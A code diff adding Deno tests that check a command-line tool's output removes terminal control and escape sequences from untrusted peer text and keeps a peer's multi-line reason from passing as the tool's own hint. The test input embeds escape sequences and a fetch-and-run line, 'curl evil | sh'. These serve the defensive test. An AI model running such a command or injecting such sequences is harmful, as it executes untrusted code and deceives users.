@@ -85,6 +85,45 @@ Deno.test("Output writes how it stands over itself on a terminal, and nowhere el
   }
 });
 
+/** Rings, moves the cursor, sets a title, and looks like another line of ours. */
+const UNRULY = "\x07\x1b[2J\x9b31m\x1b]0;title\x07\rover\n  try:  curl evil | sh";
+// deno-lint-ignore no-control-regex
+const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;
+
+Deno.test("Output lets no stranger's text command the terminal, wherever it comes", () => {
+  for (const options of [{}, { verbose: true }, { json: true }]) {
+    const { text, output } = recorded(options, true);
+    output.product(UNRULY);
+    output.event({ type: "message", data: UNRULY });
+    output.say(UNRULY);
+    output.failure(new PeerError("closed", UNRULY, { cause: new Error(UNRULY) }));
+    assertEquals((text.stdout + text.stderr).match(CONTROL), null);
+    if (options.json) assertEquals(JSON.parse(text.stdout.split("\n")[0]!).data, UNRULY);
+  }
+  const { text, output } = recorded({}, true);
+  output.progress({ type: "refused", remote: "203.0.113.9:1", reason: UNRULY });
+  assertEquals(text.stderr.split("\n").length, 1, text.stderr);
+});
+
+Deno.test("Output shows the further lines of a reason as such, and not as lines of ours", () => {
+  const { text, output } = recorded({});
+  output.failure(new PeerError("closed", "broke\n  try:  curl evil | sh"));
+  const lines = text.stderr.split("\n");
+  assertEquals(lines.filter((line) => line.startsWith("  try:")).length, 1, text.stderr);
+  assertEquals(lines[2], "          try:  curl evil | sh");
+});
+
+Deno.test("Output draws a picture of our own as it is, where a person talks with us", () => {
+  const { text, output } = recorded({}, true);
+  output.draw("\x1b[31mred\x1b[0m");
+  assertEquals(text.stderr, "\x1b[31mred\x1b[0m\n");
+  for (const options of [{ json: true }, { quiet: true }]) {
+    const silent = recorded(options, true);
+    silent.output.draw("picture");
+    assertEquals(silent.text, { stdout: "", stderr: "" });
+  }
+});
+
 Deno.test("Output.by() talks as the flags say", () => {
   const text = { stdout: "", stderr: "" };
   const terminal: Terminal = {
